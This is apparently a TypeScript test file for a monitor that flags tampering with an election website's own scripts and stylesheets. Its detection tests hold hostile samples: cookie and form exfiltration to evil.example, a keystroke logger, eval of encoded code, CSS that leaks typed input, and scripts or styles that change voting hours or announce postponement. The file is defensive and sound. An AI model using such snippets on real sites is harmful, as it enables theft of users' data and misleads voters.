import assert from 'node:assert/strict'
import { test } from 'node:test'
import { pageOf, Site, told } from '../../../../test/support/watched-page.ts'
import { approve, type FileGiven, readProfile, writeProfile } from './index.ts'

const APP = 'https://www.vote.example/app.js'
const SHEET = 'https://www.vote.example/site.css'
const CODE = `// See https://manual.example/ for more.
document.querySelector("#menu").addEventListener("click", () => toggle("open"))
function toggle(name) { return fetch("/api/state?" + name).then((r) => r.json()) }`
const STYLE = '.menu{display:flex}.hidden{display:none}.more::after{content:"(opens in a window)"}'

const files = (app: FileGiven = CODE, sheet: FileGiven = STYLE) =>
  new Map<string, FileGiven>([
    [APP, app],
    [SHEET, sheet],
  ])

let stored: Uint8Array | null = null
function learned(): Site {
  stored ??= new Site(() => pageOf(), { files: files() }).learned().stored
  const site = new Site()
  site.stored = stored
  site.atMs += 3 * 86_400_000
  return site
}

const judged = (app: FileGiven, sheet?: FileGiven) =>
  told(learned().look(null, 0, { files: files(app, sheet) }).items)

test('files that are as they were are nothing to tell, nor is what changes nothing in them', () => {
  assert.deepEqual(judged(CODE), [])
  assert.deepEqual(told(learned().look().items), [])
  assert.deepEqual(judged(`/* version 2 */ ${CODE.replaceAll('\n', '\n\n')}`), [])
  assert.deepEqual(judged(CODE.replace('manual.example', 'other-manual.example')), [])
  assert.deepEqual(judged(CODE, `${STYLE} .footer { color : red }`), [])
})

test('H: an own script that kept its address and reaches more', () => {
  for (const more of [
    'new Image().src = "https://evil.example/?" + document.cookie',
    'navigator.sendBeacon("//evil.example/c", new FormData(document.forms[0]))',
    'import("https:\\/\\/evil.example/a.js")',
    'fetch("\\x68ttps://evil.example")',
    'eval(atob("YWxlcnQoMSk="))',
    'new Function(name)()',
    'document.write("<b>x</b>")',
    'navigator.serviceWorker.register("/sw.js")',
    'document.head.append(document.createElement("script"))',
    'addEventListener("keydown", (e) => navigator.sendBeacon("/log", e.key))',
  ])
    assert.deepEqual(judged(`${CODE}\n${more}`), ['H own_file own_file_reaches'], more)
  assert.deepEqual(judged(`${CODE}\nlocation.href = "https://evil.example/"`), [
    'C own_file own_file_reaches',
  ])
})

test('the host alone may be another one in code that is the same', () => {
  const code = `${CODE}; post("https://good.example/api")`
  const site = new Site(() => pageOf(), { files: files(code) }).learned()
  const swapped = files(code.replace('good.example', 'evil.example'))
  assert.deepEqual(told(site.look(null, 60_000, { files: swapped }).items), [
    'H own_file own_file_reaches',
  ])
})

test('M once: an own script that was written anew and reaches no more; a release is nothing to tell', () => {
  const other = `${CODE}\nfunction close() { return toggle("shut") }`
  assert.deepEqual(judged(other), ['M own_file own_file_changed'])
  const page = (n: number) => pageOf({ head: `<script src="/js/menu.js?v=${n}"></script>` })
  const menu = (n: number) => [`https://www.vote.example/js/menu.js?v=${n}`, 'menu()'] as const
  const site = new Site(() => page(1), { files: files().set(...menu(1)) }).learned()
  // The page names new files at once; that others are other ones is seen when they are asked for again.
  assert.deepEqual(told(site.look(page(2), 60_000, { files: files().set(...menu(2)) }).items), [])
  const later = site.look(page(2), 3_600_000, { files: files(other).set(...menu(2)) })
  assert.deepEqual(told(later.items), [])
  const reaching = files(`${other}; eval(name)`).set(...menu(2))
  assert.deepEqual(told(site.look(page(2), 60_000, { files: reaching }).items), [
    'H own_file own_file_reaches',
  ])
})

test('a sheet is told where it hides the page, says something, or lets what is typed be asked for', () => {
  assert.deepEqual(judged(CODE, `${STYLE} main { display: none }`), [
    'C page replaced',
    'H own_file own_style_shows',
  ])
  assert.deepEqual(judged(CODE, `${STYLE} h1::after { content: "Voting is postponed" }`), [
    'H own_file own_style_shows',
  ])
  assert.deepEqual(
    judged(CODE, `${STYLE} input[value^="a"] { background: url(https://evil.example/a) }`),
    ['H own_file own_style_shows'],
  )
  assert.deepEqual(judged(CODE, `@import "https://fonts.example/a.css"; ${STYLE}`), [
    'H own_file own_style_shows',
  ])
})

test('what was seen stays told while the file is not asked for, until it is as it was or approved', () => {
  const site = learned()
  const evil = `${CODE}\neval(name)`
  const seen = site.look(null, 0, { files: files(evil) })
  assert.deepEqual(told(seen.items), ['H own_file own_file_reaches'])
  const again = site.look(null, 60_000)
  assert.deepEqual(again.items, seen.items)
  const hash = { sha256: /SHA-256 (\w+)/.exec(seen.items[0]?.now ?? '')?.[1] ?? '' }
  assert.deepEqual(site.look(null, 60_000, { files: files(hash) }).unread, [APP])
  assert.deepEqual(told(site.look(null, 60_000, { files: files() }).items), [])
  assert.deepEqual(told(site.look(null, 60_000).items), [])

  site.look(null, 60_000, { files: files(evil) })
  const profile = readProfile(site.stored ?? new Uint8Array())
  assert.ok(!('damage' in profile))
  const { reading, items } = site.look(null, 60_000)
  site.stored = writeProfile(approve(profile, reading, site.atMs, items))
  assert.deepEqual(told(site.look(null, 60_000, { files: files(evil) }).items), [])
  assert.deepEqual(
    told(site.look(null, 60_000, { files: files(`${evil};top.x("//evil.example")`) }).items),
    ['H own_file own_file_reaches'],
  )
})

test('a file under a new name is compared with all that the page had', () => {
  const look = (code: string) => {
    const site = learned()
    const page = pageOf({ head: '<script src="/js/extra.js"></script>' })
    const given = files().set('https://www.vote.example/js/extra.js', code)
    const { items } = site.look(page, 60_000, { files: given })
    return told(items).filter((one) => one.includes('own_file'))
  }
  assert.deepEqual(look('toggle("x")'), [])
  assert.deepEqual(look('map("https://tiles.example/")'), ['M own_file own_file_reaches'])
  assert.deepEqual(look('onkeydown = (e) => fetch("https://evil.example/?" + e.key)'), [
    'H own_file own_file_reaches',
  ])
})

test('files of other hosts of the same site are own files, those of other sites are not', () => {
  const head =
    '<script src="//static.vote.example/a.js#x"></script><script src="https://cdn.example/b.js"></script>'
  const { reading } = learned().look(pageOf({ head }), 60_000)
  assert.deepEqual(
    reading.files.map(({ kind, url }) => `${kind} ${url}`),
    [`script ${APP}`, `sheet ${SHEET}`, 'script https://static.vote.example/a.js'],
  )
})

test('H: an own script that writes another hour into the page, an own sheet that takes in one of strangers', () => {
  const AT_START = STYLE
  const imported = (address: string) => judged(CODE, `@import ${address};${AT_START}`)
  for (const more of [
    'document.body.innerHTML = document.body.innerHTML.split("18 Uhr").join("15 Uhr")',
    "hours.textContent = '08:00 – 14:00'",
    'node.nodeValue = "12 December 2026"',
    'p.innerText = `7 h à 15 h`',
    `if ("" === "a") p.innerHTML = p.innerHTML.split("19h").join('16h')`,
    'p.innerHTML = p.innerHTML.replace(/20 Uhr/g, x)',
  ])
    assert.deepEqual(judged(`${CODE}\n${more}`), ['H own_file own_file_reaches'], more)
  for (const more of ['menu.textContent = "Menu"', 'menu.innerHTML = `${"1.25s"} ${"3:4"}`'])
    assert.deepEqual(judged(`${CODE}\n${more}`), ['M own_file own_file_changed'], more)
  assert.deepEqual(imported('url("//a.test/x.css")'), ['H own_file own_style_shows'])
  assert.deepEqual(imported('"https://a.test/x.css" screen'), ['H own_file own_style_shows'])
  assert.deepEqual(imported("url('https://fonts.googleapis.com/css2?family=Inter')"), [
    'M own_file own_style_shows',
  ])
  assert.deepEqual(imported('url(https://cdn.jsdelivr.net/npm/bootstrap-icons@1.11.3/a.css)'), [
    'M own_file own_style_shows',
  ])
  assert.deepEqual(imported('"/other.css"'), [])
})
